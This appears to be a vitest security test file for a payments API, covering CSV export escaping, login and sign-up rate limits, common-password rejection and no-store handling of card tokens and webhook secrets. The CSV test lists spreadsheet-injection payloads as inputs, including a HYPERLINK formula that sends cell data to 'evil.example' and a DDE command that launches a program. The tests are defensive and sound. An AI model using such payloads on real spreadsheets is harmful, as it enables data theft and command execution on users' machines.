import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../src/lib/ids.js';
import { cell } from '../../src/modules/transactions/csv.js';
import { Agent } from '../dashboard-agent.js';
import { clientFor, johnDoe, startTestApp, type Client, type TestApp } from '../harness.js';

let t: TestApp;
let api: Client;
beforeAll(async () => {
  t = await startTestApp({ TRUSTED_PROXIES: ['127.0.0.1'] });
  api = clientFor(t, (await t.tenant('Low Items Co')).sandbox.secret_key);
});
afterAll(() => t.close());

const email = () => `low+${newId().slice(-12)}@example.com`;

describe('CSV exports', () => {
  it('neutralise every cell a spreadsheet would run, and leave only strict numbers as they are', () => {
    for (const v of [
      '-1+HYPERLINK("http://evil.example/?x="&A1,"click")',
      "-1+cmd|' /C calc'!A0",
      '-2-3',
      '-1e3',
      '=1+1',
      '+1',
      '@SUM(A1)',
      '\t=1',
      '-',
      '- note',
    ])
      expect(cell(v).replace(/^"/, '').startsWith("'"), v).toBe(true);
    for (const v of ['-12.50', '12.50', '0', '-1', '1000000', 'refund', 'a-1']) expect(cell(v), v).toBe(v);
  });
});

describe('dashboard log-in limit', () => {
  it('counts failures per email and client address: a stranger cannot lock the owner out', async () => {
    const address = email();
    await new Agent(t, { 'x-forwarded-for': '198.51.100.20' }).signup(address);
    const stranger = new Agent(t, { 'x-forwarded-for': '203.0.113.66' });
    await stranger.get('/dashboard/login');
    for (let i = 0; i < 5; i++)
      expect((await stranger.post('/dashboard/login', { email: address, password: 'wrong password' })).statusCode).toBe(401);
    expect((await stranger.post('/dashboard/login', { email: address, password: 'wrong password' })).statusCode).toBe(429);
    const owner = new Agent(t, { 'x-forwarded-for': '198.51.100.21' });
    await owner.get('/dashboard/login');
    expect((await owner.post('/dashboard/login', { email: address, password: 'correct horse battery' })).statusCode).toBe(303);
  });
});

describe('sign-up', () => {
  it('answers a taken email generically', async () => {
    const taken = email();
    await new Agent(t, { 'x-forwarded-for': '198.51.100.30' }).signup(taken);
    const res = await new Agent(t, { 'x-forwarded-for': '198.51.100.31' }).signup(taken);
    expect(res.statusCode).toBe(400);
    expect(res.body).not.toMatch(/already exists|already has/i);
    expect(res.body).toContain('could not create an account');
  });

  it('counts every attempt per client address, refused ones too', async () => {
    const from = { 'x-forwarded-for': '198.51.100.32' };
    for (let i = 0; i < 30; i++) expect((await new Agent(t, from).signup(email(), 'short')).statusCode).toBe(400);
    expect((await new Agent(t, from).signup(email())).statusCode).toBe(429);
  });

  it('refuses common passwords, not only short ones', async () => {
    for (const password of ['password1234', 'Password2024!', '123456789012', 'qwertyuiop123', 'aaaaaaaaaaaa']) {
      const res = await new Agent(t, { 'x-forwarded-for': '198.51.100.33' }).signup(email(), password);
      expect(res.statusCode, password).toBe(400);
      expect(res.body, password).toContain('too common');
    }
  });
});

describe('secret answers', () => {
  it('the sandbox card-token simulation seals its stored answer', async () => {
    const customer_id = (await api.post('/v1/customers', johnDoe())).body.data.id;
    const key = newId();
    const res = await api.post(
      '/v1/simulations/card-tokens',
      { card_number: '4242424242424242', expiry: '12/30', cvv: '999', customer_id },
      { idempotencyKey: key },
    );
    expect(res.status).toBe(200);
    const token = res.body.data.card_token as string;
    expect(token).toMatch(/^tokn_/);
    expect(res.headers['cache-control']).toBe('no-store');
    const row = await t.db
      .selectFrom('idempotency_keys')
      .select(['response_sealed', 'response_body'])
      .where('key', '=', key)
      .executeTakeFirstOrThrow();
    expect(row.response_sealed).toBe(true);
    expect(row.response_body).not.toContain(token);
    const replay = await api.post(
      '/v1/simulations/card-tokens',
      { card_number: '4242424242424242', expiry: '12/30', cvv: '999', customer_id },
      { idempotencyKey: key },
    );
    expect(replay.body.data.card_token).toBe(token);
    expect(replay.headers['cache-control']).toBe('no-store');
  });

  it('webhook secrets are sent with Cache-Control: no-store, replays included', async () => {
    const key = newId();
    const created = await api.post('/v1/webhooks/endpoints', { url: 'https://hooks.example.com/x' }, { idempotencyKey: key });
    expect(created.status).toBe(201);
    expect(created.headers['cache-control']).toBe('no-store');
    expect(
      (await api.post('/v1/webhooks/endpoints', { url: 'https://hooks.example.com/x' }, { idempotencyKey: key })).headers['cache-control'],
    ).toBe('no-store');
    const rotated = await api.post(`/v1/webhooks/endpoints/${created.body.data.id}/rotate-secret`, {});
    expect(rotated.status).toBe(200);
    expect(rotated.body.data.secret).toMatch(/^whsec_/);
    expect(rotated.headers['cache-control']).toBe('no-store');
  });
});
